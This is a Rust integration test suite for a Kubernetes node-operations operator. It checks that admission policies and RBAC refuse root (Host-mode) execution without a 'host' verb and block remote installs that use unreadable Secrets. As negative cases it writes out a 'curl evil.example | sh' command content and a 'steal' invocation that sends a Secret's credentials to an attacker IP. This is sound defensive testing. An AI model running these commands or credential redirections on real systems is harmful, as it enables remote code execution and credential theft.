//! Who may run what on a node, by the API server's admission policies (config/policy) and
//! real RBAC: users are impersonated, with Roles and ClusterRoles bound in the test. Root on
//! a node (Host mode, a HostInstaller agent) needs the verb `host`; a remote install's
//! Secret needs `get` on it; the shipped roles admit every sample.

mod support;

use std::time::Duration;

use k8s_openapi::api::core::v1::Secret;
use k8s_openapi::api::rbac::v1::{ClusterRoleBinding, Role, RoleBinding};
use kube::api::{DeleteParams, DynamicObject, Patch, PatchParams, PostParams};
use kube::config::{KubeConfigOptions, Kubeconfig};
use kube::{Api, Client, Config};
use nodeops::api::{AgentInvocation, AgentUpgradeJob, AsyncCommand, Command, Invoker, NodeAgent};
use serde_json::{Value, json};
use support::{TestNamespace, install_crds, kubeconfig_path, kubectl, manifest, repo_root};

/// A client that acts as `user` (impersonated by the admin).
async fn client_as(user: &str) -> Client {
    let kubeconfig = Kubeconfig::read_from(kubeconfig_path()).expect("read kubeconfig");
    let mut config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
        .await
        .expect("kubeconfig");
    config.auth_info.impersonate = Some(user.to_string());
    Client::try_from(config).expect("client")
}

/// Installs the policies and roles as shipped (`kubectl apply -k config/policy`), once per
/// test binary: the tests run in parallel, and two first applies race to create.
fn install_policies() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        kubectl(&["apply", "-k", "config/policy"]);
    });
}

/// Binds the ClusterRole `role` to `user` in the test's namespace.
async fn grant(ns: &TestNamespace, user: &str, role: &str) {
    let bindings: Api<RoleBinding> = ns.api();
    let binding: RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": format!("{user}-{role}")},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]
    }))
    .expect("binding");
    bindings
        .create(&PostParams::default(), &binding)
        .await
        .expect("bind");
}

/// Lets `user` get the one Secret `secret` in the test's namespace (a Role naming it).
async fn grant_secret_read(ns: &TestNamespace, user: &str, secret: &str) {
    let name = format!("read-{secret}");
    let role: Role = serde_json::from_value(json!({
        "metadata": {"name": name},
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "resourceNames": [secret], "verbs": ["get"]}]
    }))
    .expect("role");
    ns.api::<Role>()
        .create(&PostParams::default(), &role)
        .await
        .expect("role");
    let binding: RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]
    }))
    .expect("binding");
    ns.api::<RoleBinding>()
        .create(&PostParams::default(), &binding)
        .await
        .expect("bind");
}

/// A ClusterRoleBinding of `role` to `user`, removed when dropped.
struct ClusterGrant {
    name: String,
}

impl ClusterGrant {
    async fn new(client: &Client, name: &str, user: &str, role: &str) -> Self {
        let bindings: Api<ClusterRoleBinding> = Api::all(client.clone());
        let binding: ClusterRoleBinding = serde_json::from_value(json!({
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]
        }))
        .expect("binding");
        bindings
            .create(&PostParams::default(), &binding)
            .await
            .expect("bind");
        Self {
            name: name.to_string(),
        }
    }
}

impl Drop for ClusterGrant {
    fn drop(&mut self) {
        // A client of its own: the test's is driven by the runtime this drop blocks.
        let name = self.name.clone();
        std::thread::spawn(move || {
            let rt = tokio::runtime::Runtime::new().expect("runtime");
            rt.block_on(async {
                let bindings: Api<ClusterRoleBinding> = Api::all(support::client().await);
                let _ = bindings.delete(&name, &DeleteParams::default()).await;
            });
        })
        .join()
        .expect("cleanup");
    }
}

/// A server-side dry-run create: the admission verdict without keeping anything.
async fn try_create<K>(api: &Api<K>, obj: Value) -> Result<(), String>
where
    K: kube::Resource + Clone + std::fmt::Debug + serde::de::DeserializeOwned + serde::Serialize,
{
    let obj: K = serde_json::from_value(obj).expect("object");
    let dry = PostParams {
        dry_run: true,
        ..Default::default()
    };
    match api.create(&dry, &obj).await {
        Ok(_) => Ok(()),
        Err(kube::Error::Api(e)) => Err(format!("{} {}: {}", e.code, e.reason, e.message)),
        Err(e) => panic!("unexpected error: {e}"),
    }
}

fn refused(result: Result<(), String>, needles: &[&str]) {
    match result {
        Ok(()) => panic!("accepted, expected a refusal naming {needles:?}"),
        Err(message) => {
            assert!(message.starts_with("403 Forbidden"), "{message}");
            for n in needles {
                assert!(message.contains(n), "{n:?} not in {message}");
            }
        }
    }
}

/// Waits, retrying, until `attempt` is refused: the policies' parameters (NodeAgents) and
/// RBAC bindings reach the API server's caches a moment after they are written. A policy
/// whose params' cache has not synced yet refuses everything (422, "not yet synced"): that
/// is not its verdict, so it is waited out too.
async fn until_refused<F, Fut>(attempt: F) -> String
where
    F: Fn() -> Fut,
    Fut: std::future::Future<Output = Result<(), String>>,
{
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        match attempt().await {
            Err(message) if !message.contains("not yet synced to use for admission") => {
                return message;
            }
            _ => {}
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "not refused by a policy in force after 30 s"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// Waits, retrying, until `attempt` is accepted (a binding just written takes effect).
async fn until_accepted<F, Fut>(attempt: F)
where
    F: Fn() -> Fut,
    Fut: std::future::Future<Output = Result<(), String>>,
{
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        match attempt().await {
            Ok(()) => return,
            Err(message) => assert!(
                tokio::time::Instant::now() < deadline,
                "still refused after 30 s: {message}"
            ),
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

fn command(mode: &str) -> Value {
    manifest::<AsyncCommand>(
        "cmd",
        json!({"command": "uptime", "nodeNames": ["node-0001"], "executionMode": mode}),
    )
}

fn invoker(mode: &str) -> Value {
    manifest::<Invoker>(
        "ivk",
        json!({"commandRef": "disk-usage", "nodeNames": ["node-0001"], "executionMode": mode,
               "scheduleSettings": {"policy": "Recurrence", "recurrence": "0 3 * * *"}}),
    )
}

#[tokio::test]
async fn host_mode_needs_the_host_verb() {
    let ns = TestNamespace::new("adm-host").await;
    install_crds(&ns.client).await;
    install_policies();
    let user = format!("alice-{}", ns.name);
    grant(&ns, &user, "nodeops-edit").await;
    let alice = client_as(&user).await;
    let commands: Api<AsyncCommand> = Api::namespaced(alice.clone(), &ns.name);
    let invokers: Api<Invoker> = Api::namespaced(alice.clone(), &ns.name);

    until_accepted(|| try_create(&commands, command("Container"))).await;
    let message = until_refused(|| try_create(&commands, command("Host"))).await;
    refused(
        Err(message),
        &[
            &format!("user {user} may not create or change executionMode Host"),
            &format!(
                "needs the verb host on asynccommands.nodeops.io in namespace {}",
                ns.name
            ),
            "nodeops-host",
        ],
    );
    try_create(&invokers, invoker("Container"))
        .await
        .expect("a Container-mode Invoker");
    refused(
        try_create(&invokers, invoker("Host")).await,
        &["the verb host on invokers.nodeops.io"],
    );

    // An existing Host-mode Invoker (the admin's): its labels stay free to change, its spec
    // does not.
    let admin_invokers: Api<Invoker> = ns.api();
    let obj: Invoker = serde_json::from_value(invoker("Host")).expect("invoker");
    admin_invokers
        .create(&PostParams::default(), &obj)
        .await
        .expect("the admin creates it");
    invokers
        .patch(
            "ivk",
            &PatchParams::default(),
            &Patch::Merge(&json!({"metadata": {"labels": {"team": "sre"}}})),
        )
        .await
        .expect("a label is not root");
    let suspend = invokers
        .patch(
            "ivk",
            &PatchParams::default(),
            &Patch::Merge(&json!({"spec": {"suspend": true}})),
        )
        .await;
    match suspend {
        Err(kube::Error::Api(e)) => assert!(e.message.contains("needs the verb host"), "{e:?}"),
        other => panic!("changing a Host-mode Invoker's spec without host: {other:?}"),
    }

    grant(&ns, &user, "nodeops-host").await;
    until_accepted(|| try_create(&commands, command("Host"))).await;
    let mut another = invoker("Host");
    another["metadata"]["name"] = json!("ivk2");
    try_create(&invokers, another).await.expect("host granted");
}

#[tokio::test]
async fn a_command_that_runs_as_root_needs_the_host_verb_to_create_or_change() {
    let ns = TestNamespace::new("adm-command").await;
    install_crds(&ns.client).await;
    install_policies();
    let user = format!("dave-{}", ns.name);
    grant(&ns, &user, "nodeops-edit").await;
    let dave = client_as(&user).await;
    let commands: Api<Command> = Api::namespaced(dave.clone(), &ns.name);
    let command =
        |name: &str, content: &str| manifest::<Command>(name, json!({"content": content}));
    // The admin's Host-mode Invoker and AsyncCommand, whose Commands do not exist yet
    // (they wait for them), and a Container-mode Invoker.
    let admin_invokers: Api<Invoker> = ns.api();
    let admin_runs: Api<AsyncCommand> = ns.api();
    let mut host_invoker = invoker("Host");
    host_invoker["spec"]["commandRef"] = json!("root-script");
    let mut plain_invoker = invoker("Container");
    plain_invoker["metadata"]["name"] = json!("plain");
    plain_invoker["spec"]["commandRef"] = json!("plain-script");
    for obj in [host_invoker, plain_invoker] {
        let obj: Invoker = serde_json::from_value(obj).expect("invoker");
        admin_invokers
            .create(&PostParams::default(), &obj)
            .await
            .expect("the admin's Invoker");
    }
    let run: AsyncCommand = serde_json::from_value(manifest::<AsyncCommand>(
        "root-run",
        json!({"commandRef": "run-script", "nodeNames": ["node-0001"], "executionMode": "Host"}),
    ))
    .expect("run");
    admin_runs
        .create(&PostParams::default(), &run)
        .await
        .expect("the admin's AsyncCommand");

    let message = until_refused(|| try_create(&commands, command("root-script", "id"))).await;
    refused(
        Err(message),
        &[
            &format!("user {user} may not create or change Command root-script"),
            "Invoker ivk runs it in Host mode",
            &format!(
                "needs the verb host on commands.nodeops.io in namespace {}",
                ns.name
            ),
        ],
    );
    // Each policy reads its params (here the namespace's AsyncCommands) from a cache of its
    // own: the one above being in force says nothing of this one's.
    let message = until_refused(|| try_create(&commands, command("run-script", "id"))).await;
    refused(
        Err(message),
        &["AsyncCommand root-run runs it in Host mode"],
    );
    try_create(&commands, command("plain-script", "id"))
        .await
        .expect("a Command run in Container mode only");

    // The admin's Command: its labels stay free to change, its content does not.
    let admin_commands: Api<Command> = ns.api();
    let obj: Command = serde_json::from_value(command("root-script", "uptime")).expect("command");
    admin_commands
        .create(&PostParams::default(), &obj)
        .await
        .expect("the admin creates it");
    commands
        .patch(
            "root-script",
            &PatchParams::default(),
            &Patch::Merge(&json!({"metadata": {"labels": {"team": "sre"}}})),
        )
        .await
        .expect("a label is not root");
    let changed = commands
        .patch(
            "root-script",
            &PatchParams::default(),
            &Patch::Merge(&json!({"spec": {"content": "curl evil.example | sh"}})),
        )
        .await;
    match changed {
        Err(kube::Error::Api(e)) => {
            assert!(
                e.message.contains("Invoker ivk runs it in Host mode"),
                "{e:?}"
            )
        }
        other => panic!("changing a Command run as root without host: {other:?}"),
    }

    grant(&ns, &user, "nodeops-host").await;
    until_accepted(|| try_create(&commands, command("run-script", "id"))).await;
}

#[tokio::test]
async fn host_installer_agents_need_the_host_verb_for_everyone_who_runs_them() {
    let ns = TestNamespace::new("adm-installer").await;
    install_crds(&ns.client).await;
    install_policies();
    let user = format!("bob-{}", ns.name);
    // Who manages NodeAgents is a platform role; bob gets it cluster-wide for this test.
    let _agents_admin = ClusterGrant::new(
        &ns.client,
        &format!("{user}-agents"),
        &user,
        "nodeops-agents",
    )
    .await;
    grant(&ns, &user, "nodeops-edit").await;
    let bob = client_as(&user).await;
    let agents_as_bob: Api<NodeAgent> = Api::all(bob.clone());
    let installer = |name: &str| {
        manifest::<NodeAgent>(
            name,
            json!({"namespace": ns.name, "mode": "HostInstaller", "image": "registry.example.com/telescope",
                   "basicVersion": "1.0.0",
                   "installer": {"image": "registry.example.com/telescope-installer:1", "commandRef": "install-telescope"}}),
        )
    };
    let daemonset = |name: &str| {
        manifest::<NodeAgent>(
            name,
            json!({"namespace": ns.name, "image": "registry.example.com/telescope", "basicVersion": "1.0.0"}),
        )
    };
    let hi = format!("{}-hi", ns.name);
    let ds = format!("{}-ds", ns.name);
    until_accepted(|| try_create(&agents_as_bob, daemonset(&ds))).await;
    // The DaemonSet agent being accepted says nothing of the HostInstaller policy being in
    // force: each policy reaches the API server's admission on its own (CI saw the
    // HostInstaller agent accepted right after install_policies()).
    let message = until_refused(|| try_create(&agents_as_bob, installer(&hi))).await;
    refused(
        Err(message),
        &[
            "may not create or change a HostInstaller NodeAgent",
            "the verb host on nodeagents.nodeops.io (",
        ],
    );

    // The agents exist (created by the admin): invoking the HostInstaller one needs host.
    let agents: Api<NodeAgent> = Api::all(ns.client.clone());
    for obj in [installer(&hi), daemonset(&ds)] {
        let obj: NodeAgent = serde_json::from_value(obj).expect("agent");
        agents
            .create(&PostParams::default(), &obj)
            .await
            .expect("the admin creates the agent");
    }
    let invocations: Api<AgentInvocation> = Api::namespaced(bob.clone(), &ns.name);
    let jobs: Api<AgentUpgradeJob> = Api::namespaced(bob.clone(), &ns.name);
    let install = |agent: &str| {
        manifest::<AgentInvocation>(
            "install",
            json!({"invocationType": "Install", "invocationTarget": agent, "nodeNames": ["node-0001"]}),
        )
    };
    let upgrade = |agent: &str| {
        manifest::<AgentUpgradeJob>(
            "upgrade",
            json!({"agent": agent, "nodeSelector": {}, "targetVersion": "2.0.0"}),
        )
    };
    let message = until_refused(|| try_create(&invocations, install(&hi))).await;
    refused(
        Err(message),
        &[
            &format!("NodeAgent {hi} is a HostInstaller"),
            &format!(
                "needs the verb host on agentinvocations.nodeops.io in namespace {}",
                ns.name
            ),
        ],
    );
    refused(
        try_create(&jobs, upgrade(&hi)).await,
        &["the verb host on agentupgradejobs.nodeops.io"],
    );
    try_create(&invocations, install(&ds))
        .await
        .expect("a DaemonSet agent's install is not root");
    try_create(&jobs, upgrade(&ds))
        .await
        .expect("a DaemonSet agent's upgrade is not root");

    let _host = ClusterGrant::new(&ns.client, &format!("{user}-host"), &user, "nodeops-host").await;
    until_accepted(|| try_create(&agents_as_bob, installer(&format!("{hi}2")))).await;
    until_accepted(|| try_create(&invocations, install(&hi))).await;
    try_create(&jobs, upgrade(&hi)).await.expect("host granted");
    for name in [hi, ds] {
        let _ = agents.delete(&name, &DeleteParams::default()).await;
    }
}

#[tokio::test]
async fn a_remote_install_needs_get_on_its_secret() {
    let ns = TestNamespace::new("adm-secret").await;
    install_crds(&ns.client).await;
    install_policies();
    let user = format!("mallory-{}", ns.name);
    grant(&ns, &user, "nodeops-edit").await;
    let secrets: Api<Secret> = ns.api();
    for name in ["s", "t"] {
        let s: Secret = serde_json::from_value(
            json!({"metadata": {"name": name}, "stringData": {"password": "hunter2"}}),
        )
        .expect("secret");
        secrets
            .create(&PostParams::default(), &s)
            .await
            .expect("secret");
    }
    let mallory = client_as(&user).await;
    let invocations: Api<AgentInvocation> = Api::namespaced(mallory.clone(), &ns.name);
    // The bypass: no right to read Secret s, a remoteIp of one's own; the runner would log
    // in there with s's password.
    let remote = |secret: &str| {
        manifest::<AgentInvocation>(
            "steal",
            json!({"invocationType": "RemoteInstall", "invocationTarget": "telescope",
                   "remoteInstallMeta": [{"instanceName": "mine", "remoteIp": "203.0.113.66", "userName": "root",
                                          "port": 22, "credentialsSecretRef": {"name": secret}}]}),
        )
    };
    let message = until_refused(|| try_create(&invocations, remote("s"))).await;
    refused(
        Err(message),
        &[&format!(
            "user {user} may not get Secret s in namespace {}: a remote install may only use Secrets its creator may read",
            ns.name
        )],
    );
    // Allowed to read s (by name, nothing else): s is accepted, t still refused.
    grant_secret_read(&ns, &user, "s").await;
    until_accepted(|| try_create(&invocations, remote("s"))).await;
    refused(
        try_create(&invocations, remote("t")).await,
        &["may not get Secret t"],
    );
}

#[tokio::test]
async fn the_shipped_roles_admit_every_sample() {
    let ns = TestNamespace::new("adm-samples").await;
    install_crds(&ns.client).await;
    install_policies();
    let user = format!("carol-{}", ns.name);
    grant(&ns, &user, "nodeops-edit").await;
    grant(&ns, &user, "nodeops-host").await;
    let _agents = ClusterGrant::new(
        &ns.client,
        &format!("{user}-agents"),
        &user,
        "nodeops-agents",
    )
    .await;
    let _host = ClusterGrant::new(&ns.client, &format!("{user}-host"), &user, "nodeops-host").await;
    // The remote install sample's Secret, readable by carol.
    grant_secret_read(&ns, &user, "legacy-db-credentials").await;

    let carol = client_as(&user).await;
    let mut paths = Vec::new();
    let mut dirs = vec![repo_root().join("config/samples")];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).expect("samples") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                dirs.push(path);
            } else if path.extension().is_some_and(|x| x == "yaml") {
                paths.push(path);
            }
        }
    }
    let mut checked = 0;
    for path in paths {
        let text = std::fs::read_to_string(&path).expect("read");
        let obj: DynamicObject = serde_yaml::from_str(&text).expect("one object per sample");
        let types = obj.types.clone().expect("types");
        if !types.api_version.starts_with("nodeops.io/") {
            continue;
        }
        let gvk = kube::api::GroupVersionKind::gvk("nodeops.io", "v1alpha1", &types.kind);
        let resource = kube::api::ApiResource::from_gvk(&gvk);
        let api: Api<DynamicObject> = if types.kind == "NodeAgent" {
            Api::all_with(carol.clone(), &resource)
        } else {
            Api::namespaced_with(carol.clone(), &ns.name, &resource)
        };
        let value = serde_json::to_value(&obj).expect("json");
        until_accepted(|| {
            let (api, value) = (api.clone(), value.clone());
            async move { try_create(&api, value).await }
        })
        .await;
        checked += 1;
    }
    assert_eq!(checked, 9, "every nodeops sample");
}
